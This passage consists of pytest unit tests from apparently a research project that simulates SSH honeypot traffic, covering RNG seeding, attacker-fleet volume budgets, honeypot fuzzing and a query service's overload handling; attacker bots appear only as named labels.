        b = tree.child("y").rand().random()
        assert a != b

    def test_rand_is_replayable(self):
        node = RngTree(1).child("x")
        assert node.rand().random() == node.rand().random()

    def test_nested_children(self):
        tree = RngTree(1)
        assert tree.child("a", "b").seed == tree.child("a").child("b").seed

    def test_numeric_names_coerced(self):
        tree = RngTree(1)
        assert tree.child(5).seed == tree.child("5").seed

    def test_convenience_helpers(self):
        node = RngTree(3).child("n")
        assert 1 <= node.randint(1, 6) <= 6
        assert 0.0 <= node.uniform(0.0, 1.0) < 1.0
        assert node.choice([1, 2, 3]) in (1, 2, 3)

    def test_choice_empty_raises(self):
        with pytest.raises(IndexError):
            RngTree(3).child("n").choice([])


class TestPoisson:
    def test_zero_lambda(self):
        assert poisson(random.Random(0), 0.0) == 0

    def test_negative_lambda_rejected(self):
        with pytest.raises(ValueError):
            poisson(random.Random(0), -1.0)

    def test_mean_small_lambda(self):
        rng = random.Random(42)
        draws = [poisson(rng, 3.0) for _ in range(4000)]
        mean = sum(draws) / len(draws)
        assert 2.8 < mean < 3.2

    def test_mean_large_lambda(self):
        rng = random.Random(42)
        draws = [poisson(rng, 400.0) for _ in range(1000)]
        mean = sum(draws) / len(draws)
        assert 390 < mean < 410

    def test_large_lambda_never_negative(self):
        rng = random.Random(1)
        assert all(poisson(rng, 60.0) >= 0 for _ in range(500))

    @given(st.floats(min_value=0.0, max_value=30.0))
    @settings(max_examples=60)
    def test_always_non_negative_int(self, lam):
        value = poisson(random.Random(0), lam)
        assert isinstance(value, int)
        assert value >= 0


class TestWeightedChoice:
    def test_respects_weights(self):
        rng = random.Random(0)
        draws = [
            weighted_choice(rng, [("a", 9.0), ("b", 1.0)]) for _ in range(2000)
        ]
        share_a = draws.count("a") / len(draws)
        assert 0.85 < share_a < 0.95

    def test_zero_weights_excluded(self):
        rng = random.Random(0)
        assert weighted_choice(rng, [("a", 0.0), ("b", 1.0)]) == "b"

    def test_all_zero_raises(self):
        with pytest.raises(ValueError):
            weighted_choice(random.Random(0), [("a", 0.0)])
