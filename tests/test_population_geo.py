"""Base AS population and geography."""

from __future__ import annotations

import random
from collections import Counter

import pytest

from repro.net.asn import ASType
from repro.net.geo import COUNTRIES, country_codes, pick_countries, random_country
from repro.net.population import CLIENT_AS_PLAN, build_base_population
from repro.util.rng import RngTree


@pytest.fixture(scope="module")
def population():
    return build_base_population(RngTree(2).child("net"), 65)


class TestGeo:
    def test_country_catalogue(self):
        codes = country_codes()
        assert len(codes) == len(set(codes))
        assert len(codes) >= 55
        assert all(len(code) == 2 for code in codes)

    def test_pick_countries_distinct(self):
        rng = random.Random(0)
        chosen = pick_countries(rng, 55)
        assert len(chosen) == 55
        assert len(set(chosen)) == 55

    def test_pick_too_many(self):
        with pytest.raises(ValueError):
            pick_countries(random.Random(0), len(COUNTRIES) + 1)

    def test_random_country_weighted(self):
        rng = random.Random(0)
        draws = Counter(random_country(rng) for _ in range(3000))
        # heavy countries should clearly outdraw light ones
        assert draws["US"] + draws["CN"] > draws.get("EE", 0) * 5


class TestBasePopulation:
    def test_counts_match_plan(self, population):
        expected = sum(count for _, count, _, _ in CLIENT_AS_PLAN)
        assert len(population.client_ases) == expected
        assert len(population.honeypot_ases) == 65

    def test_weights_align(self, population):
        assert len(population.client_weights) == len(population.client_ases)
        assert abs(sum(population.client_weights) - 1.0) < 1e-6

    def test_type_mix(self, population):
        types = Counter(record.as_type for record in population.client_ases)
        assert types[ASType.ISP_NSP] == 260
        assert types[ASType.CDN] == 10

    def test_weighted_pick_favours_isps(self, population):
        rng = random.Random(0)
        draws = Counter(
            population.weighted_client_as(rng).as_type for _ in range(4000)
        )
        assert draws[ASType.ISP_NSP] / 4000 > 0.6

    def test_registrations_predate_window(self, population):
        from datetime import date

        for record in population.client_ases:
            assert record.registered <= date(2021, 1, 1)

    def test_registry_covers_all(self, population):
        for record in population.client_ases[:20]:
            assert record.asn in population.registry

    def test_deterministic(self):
        a = build_base_population(RngTree(2).child("net"), 65)
        b = build_base_population(RngTree(2).child("net"), 65)
        assert [r.asn for r in a.client_ases] == [r.asn for r in b.client_ases]
        assert [r.registered for r in a.client_ases] == [
            r.registered for r in b.client_ases
        ]
