"""Volume budgeting: the fleet's integrated rates match the paper.

These validate the *design* of the activity models (at paper scale,
independent of Poisson sampling): summed over the window, each paper
volume is reproduced within tolerance.
"""

from __future__ import annotations

import pytest

from repro.attackers.activity import total_rate
from repro.attackers.fleetplan import build_fleet, find_bot
from repro.config import DEFAULT_CONFIG, PAPER
from repro.net.population import build_base_population
from repro.util.rng import RngTree


@pytest.fixture(scope="module")
def fleet():
    population = build_base_population(RngTree(7).child("net"), 65)
    return build_fleet(population, RngTree(7).child("fleet"), DEFAULT_CONFIG)


def integrated(fleet, names) -> float:
    return sum(
        total_rate(find_bot(fleet, name).activity, DEFAULT_CONFIG.start, DEFAULT_CONFIG.end)
        for name in names
    )


def within(value: float, target: float, tolerance: float = 0.35) -> bool:
    return (1 - tolerance) * target <= value <= (1 + tolerance) * target


class TestHeadlineVolumes:
    def test_scanning_volume(self, fleet):
        assert within(integrated(fleet, ["scanner"]), PAPER.scanning_sessions)

    def test_scouting_volume(self, fleet):
        assert within(
            integrated(fleet, ["scout_bruteforce"]), PAPER.scouting_sessions, 0.2
        )

    def test_intrusion_volume(self, fleet):
        silent = integrated(fleet, ["silent_intruder"])
        campaign = integrated(fleet, ["login_3245gs5662d34"])
        assert within(silent + campaign, PAPER.intrusion_sessions, 0.25)

    def test_mdrfckr_volume(self, fleet):
        total = integrated(fleet, ["mdrfckr", "mdrfckr_variant"])
        assert within(total, PAPER.mdrfckr_sessions, 0.25)

    def test_login3245_volume(self, fleet):
        assert within(
            integrated(fleet, ["login_3245gs5662d34"]), PAPER.login3245_sessions, 0.25
        )

    def test_curl_maxred_volume(self, fleet):
        assert within(
            integrated(fleet, ["curl_maxred"]), PAPER.curl_maxred_sessions, 0.3
        )

    def test_phil_volume(self, fleet):
        assert within(integrated(fleet, ["phil_scanner"]), PAPER.phil_sessions, 0.3)

    def test_total_command_volume(self, fleet):
        background = {
            "scanner", "scout_bruteforce", "silent_intruder",
            "login_3245gs5662d34", "phil_scanner", "richard_scanner",
        }
        command_total = sum(
            total_rate(bot.activity, DEFAULT_CONFIG.start, DEFAULT_CONFIG.end)
            for bot in fleet
            if bot.name not in background
        )
        assert within(command_total, PAPER.command_sessions, 0.25)

    def test_non_state_split(self, fleet):
        scouts = [
            "echo_OK", "echo_ok_txt", "echo_ssh_check", "echo_os_check",
            "uname_a", "uname_svnrm", "uname_svnr", "uname_svnr_model",
            "uname_a_nproc", "uname_snri_nproc", "bbox_scout_cat",
            "ak47_scout", "shell_fp", "binx86", "export_vei",
            "cloud_print", "juicessh",
        ]
        non_state = integrated(fleet, scouts)
        assert within(non_state, PAPER.non_state_sessions, 0.25)

    def test_echo_ok_dominates_non_state(self, fleet):
        echo = integrated(fleet, ["echo_OK"])
        assert echo / PAPER.non_state_sessions > 0.7

    def test_exec_volume(self, fleet):
        exec_bots = [
            "gen_wget", "gen_curl_wget", "gen_echo_wget", "gen_ftp_wget",
            "gen_curl_echo_ftp_wget", "gen_curl_ftp_wget",
            "gen_echo_ftp_wget", "gen_curl_echo_wget", "gen_echo",
            "gen_curl", "gen_ftp", "gen_curl_echo", "gen_echo_ftp",
            "direct_exec", "bbox_5_char_v2", "bbox_unlabelled",
            "bbox_loaderwget", "bbox_echo_elf", "bbox_rand_exec",
            "fslur_attack", "ohshit_attack", "onions_attack",
            "sora_attack", "heisen_attack", "zeus_attack", "update_attack",
            "wget_dget", "rm_obf_pattern_1", "rm_obf_pattern_7",
            "passwd123_daemon", "rapperbot", "gafgyt_wave", "mirai_wave",
            "mirai_coinminer", "xorddos", "tvbox_dreambox",
            "tvbox_vertex25ektks123",
        ]
        assert within(integrated(fleet, exec_bots), PAPER.exec_sessions, 0.35)
