"""Fuzzing: every bot's output must be safe for the honeypot to ingest.

The honeypot must never raise on hostile input; these tests sweep every
bot across many (day, seed) combinations and random shell garbage.
"""

from __future__ import annotations

import random
from datetime import date, timedelta

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.attackers.base import BotContext
from repro.attackers.fleetplan import build_fleet
from repro.attackers.infrastructure import StorageInfrastructure
from repro.attackers.malware import MalwareFactory
from repro.config import DEFAULT_CONFIG
from repro.honeypot.cowrie import CowrieHoneypot
from repro.honeypot.session import ConnectionIntent
from repro.honeypot.shell.context import ShellContext
from repro.honeypot.shell.engine import ShellEngine
from repro.net.population import build_base_population
from repro.util.rng import RngTree


@pytest.fixture(scope="module")
def context():
    tree = RngTree(31)
    population = build_base_population(tree.child("net"), 65)
    return BotContext(
        config=DEFAULT_CONFIG,
        population=population,
        infrastructure=StorageInfrastructure(
            DEFAULT_CONFIG, population, tree.child("infra")
        ),
        malware=MalwareFactory(tree.child("malware")),
        tree=tree.child("bots"),
    )


@pytest.fixture(scope="module")
def fleet(context):
    return build_fleet(
        context.population, RngTree(31).child("fleet"), DEFAULT_CONFIG
    )


class TestFleetFuzz:
    def test_every_bot_survives_the_honeypot(self, context, fleet):
        honeypot = CowrieHoneypot("hp-fuzz", "192.0.2.1")
        start = DEFAULT_CONFIG.start
        window = (DEFAULT_CONFIG.end - DEFAULT_CONFIG.start).days
        for bot in fleet:
            for trial in range(3):
                rng = random.Random(hash((bot.name, trial)) & 0xFFFF)
                day = start + timedelta(days=rng.randrange(window))
                intent = bot.build_intent(context, day, rng, trial)
                record = honeypot.handle(intent, float(trial))
                assert record.session_id
                # commands executed iff the login policy accepted one
                if record.login_succeeded and intent.command_lines:
                    assert record.commands

    def test_intents_are_serializable_shapes(self, context, fleet):
        rng = random.Random(0)
        day = date(2023, 5, 10)
        for bot in fleet:
            intent = bot.build_intent(context, day, rng, 0)
            assert isinstance(intent.client_ip, str)
            assert all(
                isinstance(u, str) and isinstance(p, str)
                for u, p in intent.credentials
            )
            assert all(isinstance(line, str) for line in intent.command_lines)
            for url, content in intent.remote_files:
                assert isinstance(url, str) and isinstance(content, bytes)

    def test_command_lines_have_no_newlines(self, context, fleet):
        # the honeynet records one input line per command
        rng = random.Random(1)
        day = date(2023, 5, 10)
        for bot in fleet:
            intent = bot.build_intent(context, day, rng, 0)
            for line in intent.command_lines:
                assert "\n" not in line


class TestShellFuzz:
    @given(
        st.lists(
            st.text(
                alphabet=st.characters(codec="ascii", exclude_characters="\n\r"),
                max_size=80,
            ),
            max_size=6,
        )
    )
    @settings(max_examples=150, deadline=None)
    def test_engine_never_raises(self, lines):
        context = ShellContext()
        engine = ShellEngine(context)
        for line in lines:
            record = engine.run_line(line)
            assert isinstance(record.output, str)

    @given(st.text(max_size=120))
    @settings(max_examples=100, deadline=None)
    def test_unicode_input_safe(self, line):
        context = ShellContext()
        engine = ShellEngine(context)
        engine.run_line(line)

    @given(
        st.text(
            alphabet=st.sampled_from(list("ab;|&><'\"\\ $")), max_size=40
        )
    )
    @settings(max_examples=150, deadline=None)
    def test_operator_soup_safe(self, line):
        context = ShellContext()
        ShellEngine(context).run_line(line)

    def test_honeypot_full_intent_fuzz(self):
        honeypot = CowrieHoneypot("hp", "192.0.2.1")
        rng = random.Random(7)
        alphabet = "abcdef ;|&><'\"\\$()*?~{}[]\x00\x7f"
        for trial in range(60):
            lines = tuple(
                "".join(rng.choice(alphabet) for _ in range(rng.randrange(40)))
                for _ in range(rng.randrange(5))
            )
            intent = ConnectionIntent(
                client_ip="1.1.1.1",
                credentials=(("root", "x"),),
                command_lines=lines,
            )
            record = honeypot.handle(intent, float(trial))
            assert record.session_id
