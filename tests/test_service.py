"""Query/status service: differential, overload ladder, load contract.

Four layers of proof that attaching the service cannot move a byte and
that its overload behaviour is a pure function of its inputs:

* **Attachment differential** — a snapshot publisher attached to the
  supervised stream (or folding a finished parallel run) leaves
  digests, conservation accounting and checkpoint bytes byte-identical
  to the detached runs, across {none, paper, stress} × {serial,
  2 workers}; live-folded and store-built snapshots agree on every
  aggregate.
* **Overload ladder** — each rung (validation, per-client token
  buckets, queue-depth admission gate, per-request deadlines, the
  service↔store breaker with stale-serve degradation) is exercised in
  isolation on the virtual clock, no sockets anywhere.
* **Seeded load contract** — under every named service fault profile,
  every request resolves to ``ok`` / ``rejected(reason)`` /
  ``stale(version)`` with zero unserved, and replaying the same
  ``(seed, config, policy)`` reproduces the ledger digest exactly.
* **Checkpoint/ledger surfacing** — the rolling ledger's day-boundary
  audit verdict rides the stream report, the degraded checkpoint's
  ``stream`` section, and the status endpoint; an interrupt/resume
  keeps audit-day continuity.

Marked ``service`` so CI can run this suite as its own job leg
(``pytest -m service``).
"""

from __future__ import annotations

import asyncio
from datetime import date

import pytest

from repro import telemetry
from repro.attackers.orchestrator import _export_store, run_simulation
from repro.faults.checkpoint import load_latest_checkpoint
from repro.faults.service import (
    RequestFaultPlan,
    SERVICE_PROFILES,
    ServiceFaults,
)
from repro.service import (
    OUTCOMES,
    PRIORITY_HIGH,
    PRIORITY_STATUS,
    QueryCache,
    QueryService,
    Request,
    ServiceFrontend,
    ServiceLoadModel,
    ServicePolicy,
    Snapshot,
    SnapshotPublisher,
    publish_result,
    query_fingerprint,
    run_load_test,
)
from repro.store import SqliteStore, index_path_for
from repro.stream import CLOSED, OPEN, StreamPolicy, run_stream
from tests.conftest import PROFILES, short_fault_config
from tests.test_parallel import assert_equivalent
from tests.test_stream import chaos_config

pytestmark = pytest.mark.service


# ----------------------------------------------------------------------
# shared fixtures
# ----------------------------------------------------------------------


@pytest.fixture(scope="module")
def store_root(tmp_path_factory, serial_baselines):
    """One indexed artifact tree exported from the fault-free baseline."""
    root = tmp_path_factory.mktemp("service-store")
    _export_store(serial_baselines["none"], root)
    return root


@pytest.fixture(scope="module")
def store(store_root):
    """A read-only store over the exported tree (shared, read-only)."""
    opened = SqliteStore.open(index_path_for(store_root), read_only=True)
    yield opened
    opened.close()


@pytest.fixture(scope="module")
def published_runs():
    """Supervised stream runs with a snapshot publisher attached."""
    out = {}
    for profile in PROFILES:
        publisher = SnapshotPublisher()
        result = run_stream(
            short_fault_config(profile),
            policy=StreamPolicy.live(),
            publisher=publisher,
        )
        out[profile] = (publisher, result)
    return out


@pytest.fixture(scope="module")
def chaos_published():
    """One chaos-supervised run with the publisher attached."""
    publisher = SnapshotPublisher()
    result = run_stream(
        chaos_config(), policy=StreamPolicy.chaos(), publisher=publisher
    )
    return publisher, result


def tiny_snapshot(version: int = 1) -> Snapshot:
    """A minimal in-memory snapshot for ladder unit tests."""
    return Snapshot(
        version=version,
        day="2023-09-15",
        day_ordinal=date(2023, 9, 15).toordinal(),
        content_digest="0" * 64,
        sessions=3,
        by_day={"2023-09-15": 3},
        by_label={"scan": 3},
        accounting={"stored": 3},
    )


class CountingStore:
    """A store wrapper counting how many queries actually reach it."""

    def __init__(self, inner) -> None:
        self.inner = inner
        self.calls = 0

    def count(self, **filters):
        self.calls += 1
        return self.inner.count(**filters)

    def count_by(self, column, **filters):
        self.calls += 1
        return self.inner.count_by(column, **filters)

    def distinct(self, column, **filters):
        self.calls += 1
        return self.inner.distinct(column, **filters)


# ----------------------------------------------------------------------
# attachment differential: publisher on ≡ publisher off
# ----------------------------------------------------------------------


class TestServiceAttachmentDifferential:
    @pytest.mark.parametrize("profile", PROFILES)
    def test_publisher_attached_serial_is_digest_neutral(
        self, serial_baselines, published_runs, profile
    ):
        publisher, result = published_runs[profile]
        assert_equivalent(result, serial_baselines[profile])
        # Supervision audits every boundary, so the final boundary is
        # dirty (fresh ledger verdict) and the last snapshot is current.
        latest = publisher.latest
        assert latest is not None
        assert latest.day == short_fault_config(profile).end.isoformat()
        assert latest.sessions == len(result.collector.sessions)
        assert latest.ledger == result.stream.ledger_verdict

    @pytest.mark.parametrize("profile", PROFILES)
    def test_publisher_attached_two_workers_is_digest_neutral(
        self, serial_baselines, published_runs, profile
    ):
        parallel = run_simulation(short_fault_config(profile), workers=2)
        publisher = SnapshotPublisher()
        snapshot = publish_result(publisher, parallel)
        assert_equivalent(parallel, serial_baselines[profile])
        # Aggregates agree across creation paths (serial live fold vs
        # parallel end-state fold); digests are per-path encodings.
        serial_latest = published_runs[profile][0].latest
        assert dict(snapshot.by_day) == dict(serial_latest.by_day)
        assert dict(snapshot.by_label) == dict(serial_latest.by_label)
        assert snapshot.sessions == serial_latest.sessions

    def test_checkpoint_bytes_identical_with_publisher_attached(
        self, tmp_path
    ):
        """Even a degraded (dirty-stream) checkpoint cannot tell whether
        a publisher was watching the day boundaries."""
        stop = date(2023, 10, 1)
        detached = tmp_path / "detached" / "ck.json"
        attached = tmp_path / "attached" / "ck.json"
        run_stream(
            chaos_config(), policy=StreamPolicy.chaos(),
            checkpoint_path=detached, checkpoint_every_days=5,
            stop_after=stop,
        )
        publisher = SnapshotPublisher()
        run_stream(
            chaos_config(), policy=StreamPolicy.chaos(),
            checkpoint_path=attached, checkpoint_every_days=5,
            stop_after=stop, publisher=publisher,
        )
        assert detached.read_bytes() == attached.read_bytes()
        assert publisher.published > 0

    def test_store_snapshot_aggregates_match_live_fold(
        self, store, published_runs
    ):
        """``Snapshot.from_store`` and the live publisher describe the
        same corpus with the same aggregates."""
        at_rest = Snapshot.from_store(store)
        live = published_runs["none"][0].latest
        assert at_rest.sessions == live.sessions
        assert dict(at_rest.by_day) == dict(live.by_day)
        assert dict(at_rest.by_label) == dict(live.by_label)
        assert at_rest.day == live.day


# ----------------------------------------------------------------------
# snapshot publication: versioning, dirty-flag handoff, status payload
# ----------------------------------------------------------------------


class TestSnapshotPublication:
    def test_clean_boundary_republishes_nothing(self, serial_baselines):
        publisher = SnapshotPublisher()
        first = publish_result(publisher, serial_baselines["none"])
        again = publish_result(publisher, serial_baselines["none"])
        assert again is first  # same immutable snapshot stays current
        assert publisher.published == 1
        assert publisher.skipped_clean == 1
        assert publisher.version == 1

    def test_versions_are_monotonic_and_content_digest_rolls(
        self, published_runs
    ):
        publisher, _ = published_runs["none"]
        assert publisher.latest.version == publisher.published
        assert publisher.published > 1  # one snapshot per dirty boundary

    def test_status_payload_carries_supervision_state(
        self, chaos_published
    ):
        publisher, result = chaos_published
        payload = publisher.latest.status_payload()
        assert payload["ledger"] == result.stream.ledger_verdict
        assert payload["mode"] == result.stream.mode
        assert len(payload["timeline"]) == len(result.stream.transitions)
        assert payload["version"] == publisher.published

    def test_on_publish_hooks_fire_per_snapshot(self, serial_baselines):
        publisher = SnapshotPublisher()
        seen: list[int] = []
        publisher.on_publish.append(
            lambda snapshot: seen.append(snapshot.version)
        )
        publish_result(publisher, serial_baselines["none"])
        assert seen == [1]


# ----------------------------------------------------------------------
# ledger verdict: report, checkpoint section, resume continuity
# ----------------------------------------------------------------------


class TestLedgerVerdictSurfacing:
    def test_ledger_verdict_rides_the_stream_report(self, published_runs):
        _, result = published_runs["none"]
        verdict = result.stream.ledger_verdict
        assert verdict["days"] == result.stream.days
        assert verdict["balanced"] is True
        assert verdict["last_day"] == (
            short_fault_config("none").end.isoformat()
        )
        assert 0.0 < verdict["coverage_rate"] <= 1.0

    def test_checkpoint_carries_ledger_and_resume_keeps_continuity(
        self, tmp_path
    ):
        config = chaos_config()
        ckpt = tmp_path / "ck.json"
        run_stream(
            config, policy=StreamPolicy.chaos(),
            checkpoint_path=ckpt, checkpoint_every_days=5,
            stop_after=date(2023, 10, 1),
        )
        loaded, rejected = load_latest_checkpoint(ckpt, config)
        assert rejected == []
        assert loaded is not None and loaded.stream is not None
        carried = loaded.stream["ledger"]
        assert carried["days"] > 0
        assert carried["last_day"] is not None
        resumed = run_stream(
            config, policy=StreamPolicy.chaos(),
            checkpoint_path=ckpt, resume=True,
        )
        # Audit-day continuity: the resumed ledger continues the carried
        # count instead of restarting from zero.
        total_days = (config.end - config.start).days + 1
        assert resumed.stream.ledger_verdict["days"] == total_days
        assert resumed.stream.ledger_verdict["last_day"] == (
            config.end.isoformat()
        )


# ----------------------------------------------------------------------
# the overload ladder, rung by rung (virtual clock, no sockets)
# ----------------------------------------------------------------------


class TestOverloadLadder:
    async def test_malformed_queries_are_rejected_first(self):
        service = QueryService(snapshot=tiny_snapshot())
        bad = (
            Request("c", "bogus-kind"),
            Request("c", "count", {"no_such_column": 1}),
            Request("c", "count_by", {"by": "no_such_column"}),
            Request("c", "count", {"by": "day"}),  # 'by' on a non-group
        )
        for request in bad:
            response = await service.handle(request)
            assert response.outcome == "rejected"
            assert response.reason == "malformed"
        assert service.rejected["malformed"] == len(bad)

    async def test_token_bucket_clips_hot_client_not_status(self):
        service = QueryService(
            snapshot=tiny_snapshot(),
            policy=ServicePolicy.from_name("strict"),
        )
        outcomes = [
            await service.handle(Request("hot", "count"))
            for _ in range(12)
        ]
        assert outcomes[0].outcome == "ok"  # inside the burst budget
        assert any(r.reason == "rate-limited" for r in outcomes)
        # Status stays observable while the client is clipped, and
        # other clients have their own buckets.
        status = await service.handle(
            Request("hot", "status", {}, PRIORITY_STATUS)
        )
        assert status.outcome == "ok"
        other = await service.handle(Request("cold", "count"))
        assert other.outcome == "ok"
        assert service.limiter.limited > 0

    async def test_admission_gate_sheds_by_priority(self):
        service = QueryService(snapshot=tiny_snapshot())
        watermark = service.policy.high_watermark
        capacity = service.policy.queue_capacity
        for index in range(watermark - 1):
            service.queue.push(f"backlog-{index}")
        # HIGH pressure: low-priority queries shed, high pass.
        low = await service.handle(Request("c", "count"))
        assert low.reason == "load-shed"
        high = await service.handle(
            Request("c", "count", {}, PRIORITY_HIGH)
        )
        assert high.outcome == "ok"
        # CRITICAL pressure: status only.
        for index in range(capacity - service.queue.depth - 1):
            service.queue.push(f"more-{index}")
        query = await service.handle(
            Request("c", "count", {}, PRIORITY_HIGH)
        )
        assert query.reason == "critical-load"
        status = await service.handle(
            Request("c", "status", {}, PRIORITY_STATUS)
        )
        assert status.outcome == "ok"
        # Full queue: nothing is admitted, not even status.
        service.queue.push("backlog-last")
        full = await service.handle(
            Request("c", "status", {}, PRIORITY_STATUS)
        )
        assert full.reason == "queue-full"

    async def test_slow_loris_overrun_is_cancelled(self):
        service = QueryService(snapshot=tiny_snapshot())
        stalled = await service.handle(
            Request("c", "count"),
            plan=RequestFaultPlan(stall_s=6.0),
        )
        assert stalled.outcome == "rejected"
        assert stalled.reason == "deadline"
        assert service.deadline_cancelled == 1
        # A stall inside the deadline budget is just slow, not dead.
        slow = await service.handle(
            Request("c", "count"),
            plan=RequestFaultPlan(stall_s=1.0),
        )
        assert slow.outcome == "ok"

    async def test_disconnect_is_counted_response_still_formed(self):
        service = QueryService(snapshot=tiny_snapshot())
        response = await service.handle(
            Request("c", "count"),
            plan=RequestFaultPlan(disconnect=True),
        )
        assert response.outcome == "ok"  # the write failed, not the work
        assert service.disconnects == 1

    async def test_before_first_publish_status_serves_queries_reject(self):
        service = QueryService(publisher=SnapshotPublisher())
        query = await service.handle(Request("c", "count"))
        assert query.reason == "no-snapshot"
        status = await service.handle(
            Request("c", "status", {}, PRIORITY_STATUS)
        )
        assert status.outcome == "ok"
        assert status.version == 0
        assert status.payload["snapshot"] is None

    async def test_snapshot_only_service_answers_what_it_can(self):
        service = QueryService(snapshot=tiny_snapshot())
        by_day = await service.handle(
            Request("c", "count_by", {"by": "day"})
        )
        assert by_day.outcome == "ok"
        assert by_day.payload == {"2023-09-15": 3}
        # Filtered queries need the store; without one they reject
        # loudly instead of answering wrong.
        filtered = await service.handle(
            Request("c", "distinct", {"by": "sensor_id"})
        )
        assert filtered.reason == "unsupported"


# ----------------------------------------------------------------------
# cache: fingerprints, LRU, single flight
# ----------------------------------------------------------------------


class TestQueryCacheAndSingleFlight:
    def test_query_fingerprint_is_param_order_insensitive(self):
        one = query_fingerprint(
            "count", {"day": "2023-09-15", "sensor_id": "hp-000"}
        )
        two = query_fingerprint(
            "count", {"sensor_id": "hp-000", "day": "2023-09-15"}
        )
        assert one == two
        assert one != query_fingerprint("count", {"day": "2023-09-16"})
        assert one != query_fingerprint("count_by", {"day": "2023-09-15"})

    async def test_lru_evicts_least_recently_used(self):
        cache = QueryCache(capacity=2)

        async def make(value):
            return value

        await cache.get_or_load(("v1", "a"), lambda: make(1))
        await cache.get_or_load(("v1", "b"), lambda: make(2))
        value, how = await cache.get_or_load(("v1", "a"), lambda: make(0))
        assert (value, how) == (1, "hit")
        await cache.get_or_load(("v1", "c"), lambda: make(3))  # evicts b
        assert cache.evictions == 1
        _, how = await cache.get_or_load(("v1", "b"), lambda: make(2))
        assert how == "miss"  # reloading b in turn evicts a
        assert cache.evictions == 2
        _, how = await cache.get_or_load(("v1", "c"), lambda: make(3))
        assert how == "hit"

    async def test_identical_concurrent_queries_coalesce_to_one_load(
        self, store
    ):
        counting = CountingStore(store)
        service = QueryService(
            snapshot=Snapshot.from_store(store), store=counting
        )
        responses = await asyncio.gather(
            *(
                service.handle(
                    Request(f"client-{i}", "count_by", {"by": "rule_label"})
                )
                for i in range(8)
            )
        )
        assert all(r.outcome == "ok" for r in responses)
        assert counting.calls == 1  # the herd collapsed to one store hit
        attribution = sorted(r.cache for r in responses)
        assert attribution.count("miss") == 1
        assert attribution.count("coalesced") == 7
        payloads = {tuple(sorted(r.payload.items())) for r in responses}
        assert len(payloads) == 1  # every waiter got the same answer
        again = await service.handle(
            Request("late", "count_by", {"by": "rule_label"})
        )
        assert again.cache == "hit"
        assert counting.calls == 1

    async def test_repeated_query_load_meets_the_cache_floor(self, store):
        service = QueryService(store=store)
        for _ in range(12):
            for params in ({"by": "day"}, {"by": "rule_label"}):
                response = await service.handle(
                    Request("dashboard", "count_by", dict(params))
                )
                assert response.outcome == "ok"
        assert service.cache.misses == 2
        assert service.cache.hit_ratio >= 0.9  # the bench floor


# ----------------------------------------------------------------------
# breaker: stale-serve degradation, never a 500
# ----------------------------------------------------------------------


class TestBreakerDegradation:
    async def test_store_failures_open_breaker_then_recover(self, store):
        policy = ServicePolicy(
            breaker_failure_threshold=2, breaker_recovery_s=1.0
        )
        service = QueryService(store=store, policy=policy, seed=5)
        first = await service.handle(
            Request("a", "count"), store_error=True
        )
        assert first.outcome == "stale"
        assert first.reason == "store-error"
        assert first.stale and first.version == 1
        assert first.payload is not None  # degraded, not empty-handed
        second = await service.handle(
            Request("b", "count"), store_error=True
        )
        assert second.outcome == "stale"
        assert service.breaker.state == OPEN
        assert service.breaker.trips == 1
        # While open, even healthy requests are answered from the
        # last-good snapshot without touching the store.
        blocked = await service.handle(Request("c", "count"))
        assert blocked.outcome == "stale"
        assert blocked.reason == "breaker-open"
        # A query the snapshot cannot answer still degrades
        # contractually: stale with an empty payload, never an error.
        unanswerable = await service.handle(
            Request("c2", "distinct", {"by": "sensor_id"})
        )
        assert unanswerable.outcome == "stale"
        assert unanswerable.payload is None
        assert service.store_errors == 2
        # Past the backoff the seeded probe half-opens, the healthy
        # store answers, and the breaker closes again.
        service.advance(30.0)
        recovered = await service.handle(Request("d", "count"))
        assert recovered.outcome == "ok"
        assert service.breaker.state == CLOSED

    async def test_stale_responses_name_the_version_served(self, store):
        service = QueryService(store=store, seed=5)
        for index in range(service.policy.breaker_failure_threshold):
            response = await service.handle(
                Request(f"c{index}", "count"), store_error=True
            )
            assert response.version == 1
            assert response.stale is True


# ----------------------------------------------------------------------
# seeded load model: the (seed, config, policy) contract
# ----------------------------------------------------------------------


class TestLoadModelContract:
    def test_schedule_is_deterministic(self):
        model = ServiceLoadModel(
            seed=9, faults=ServiceFaults.from_name("chaos")
        )
        assert model.schedule() == model.schedule()

    @pytest.mark.parametrize("profile", SERVICE_PROFILES)
    def test_every_response_is_contractual_and_replays(
        self, store, profile
    ):
        model = ServiceLoadModel(
            seed=11,
            ticks=10,
            requests_per_tick=6,
            faults=ServiceFaults.from_name(profile),
        )
        report = run_load_test(QueryService(store=store, seed=11), model)
        replay = run_load_test(QueryService(store=store, seed=11), model)
        assert report.unserved == 0
        assert report.digest() == replay.digest()
        assert report.total == report.ok + report.stale + sum(
            report.rejected.values()
        )
        for entry in report.entries:
            assert entry["outcome"] in OUTCOMES
            if entry["outcome"] == "rejected":
                assert entry["reason"]
            if entry["outcome"] == "stale":
                assert entry["stale"] is True
                assert entry["version"] == 1

    def test_thundering_herd_coalesces_to_one_store_query(self, store):
        counting = CountingStore(store)
        service = QueryService(
            snapshot=Snapshot.from_store(store), store=counting, seed=3
        )
        model = ServiceLoadModel(
            seed=3,
            ticks=1,
            requests_per_tick=0,  # the herd is the whole tick
            faults=ServiceFaults(herd_probability=1.0, herd_clients=12),
        )
        herd_size = len(model.schedule())
        assert herd_size > 1
        report = run_load_test(service, model)
        assert report.total == herd_size
        assert report.ok == herd_size
        assert counting.calls == 1
        assert service.cache.coalesced == herd_size - 1
        assert all(entry["herd"] for entry in report.entries)

    def test_breaker_profile_degrades_to_stale_not_errors(self, store):
        model = ServiceLoadModel(
            seed=33,
            ticks=15,
            requests_per_tick=8,
            faults=ServiceFaults.from_name("breaker"),
        )
        service = QueryService(store=store, seed=33)
        report = run_load_test(service, model)
        assert report.unserved == 0
        assert report.stale > 0
        assert service.breaker.trips >= 1

    def test_slowloris_profile_is_deadline_rejected(self, store):
        model = ServiceLoadModel(
            seed=21,
            ticks=10,
            requests_per_tick=8,
            faults=ServiceFaults.from_name("slowloris"),
        )
        report = run_load_test(QueryService(store=store, seed=21), model)
        assert report.rejected.get("deadline", 0) > 0
        assert report.unserved == 0

    def test_disconnect_profile_still_serves_contractually(self, store):
        model = ServiceLoadModel(
            seed=8,
            ticks=10,
            requests_per_tick=8,
            faults=ServiceFaults.from_name("disconnect"),
        )
        service = QueryService(store=store, seed=8)
        report = run_load_test(service, model)
        assert service.disconnects > 0
        assert report.unserved == 0
        disconnected = [
            entry for entry in report.entries if entry.get("disconnected")
        ]
        assert disconnected
        assert all(
